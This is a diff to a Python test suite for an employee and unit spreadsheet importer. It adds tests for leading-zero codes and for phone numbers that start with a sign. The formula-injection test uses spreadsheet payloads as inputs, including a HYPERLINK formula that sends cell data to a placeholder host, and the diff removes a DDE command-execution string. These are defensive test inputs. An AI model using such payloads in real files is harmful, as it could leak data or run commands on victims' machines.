@@ -171,8 +171,33 @@ def test_a_unit_code_typed_as_a_number_in_a_workbook_is_refused(org: Org) -> Non
     before = snapshot()
     report = units(buffer.getvalue(), "angka.xlsx")
     assert {(e.row, e.column) for e in report.errors} >= {(2, "Kode Unit"), (3, "Kode Induk")}
-    assert "bukan teks" in messages(report)
+    assert "bukan teks" in messages(report) and "001 menjadi 1" in messages(report)
     assert snapshot() == before
+
+
+def test_a_number_that_is_a_registered_code_is_taken(org: Org) -> None:
+    """A short code typed as a number (101) is taken when it is a registered code, in both
+    files: only a number that matches nothing may have lost its zeros."""
+    Unit.objects.filter(pk=org.puskesmas.pk).update(code="101")
+    book = Workbook()
+    book.active.append(UNIT_HEADERS)
+    book.active.append(
+        [101, "UPT Puskesmas Bukitintan Baru", "UPT Puskesmas", "DINKES", "", "", ""]
+    )
+    buffer = io.BytesIO()
+    book.save(buffer)
+    report = units(buffer.getvalue(), "angka.xlsx")
+    assert report.ok, report.errors
+    assert Unit.objects.get(pk=org.puskesmas.pk).name == "UPT Puskesmas Bukitintan Baru"
+    people = Workbook()
+    people.active.append([c.header for c in EMPLOYEE_COLUMNS])
+    cells = row(org.employee.nip, "Siti Rahmawati", supervisor=org.supervisor.nip)
+    cells[7] = 101  # Kode Unit
+    people.active.append(cells)
+    buffer = io.BytesIO()
+    people.save(buffer)
+    report = import_file(kind="employees", data=buffer.getvalue(), filename="p.xlsx", by=None)
+    assert report.ok, report.errors
 
 
 @pytest.mark.parametrize(
@@ -210,7 +235,7 @@ def test_two_codes_in_one_file_that_differ_only_in_case_are_refused(org: Org) ->
 
 @pytest.mark.parametrize(
     "name",
-    ['=HYPERLINK("http://contoh.invalid/?"&A2,"Dinas")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"],
+    ['=HYPERLINK("http://contoh.invalid/?"&A2,"Dinas")', "=1+1", "@SUM(A1:A9)"],
 )
 def test_a_formula_in_a_name_is_refused(org: Org, name: str) -> None:
     before = snapshot()
@@ -228,6 +253,23 @@ def test_a_formula_in_a_name_is_refused(org: Org, name: str) -> None:
         by=None,
     )
     assert [e.column for e in people.errors] == ["Telepon"]
+
+
+@pytest.mark.parametrize("phone", ["+62 812-3456-7890 (WA)", "+62 21 555 1234 ext 12", "-"])
+def test_a_phone_or_name_starting_with_a_sign_is_not_a_formula(org: Org, phone: str) -> None:
+    """Exports write text as text, so a value starting with "+" or "-" is taken as written
+    (the directory's own export must import back)."""
+    people = import_file(
+        kind="employees",
+        data=quoted_csv(
+            [c.header for c in EMPLOYEE_COLUMNS],
+            [[*row(org.employee.nip, "Siti")[:10], phone, "Ya"]],
+        ),
+        filename="p.csv",
+        by=None,
+    )
+    assert people.ok, people.errors
+    assert Employee.objects.get(pk=org.employee.pk).phone == phone
 
 
 # --- Read as meant -------------------------------------------------------------------------
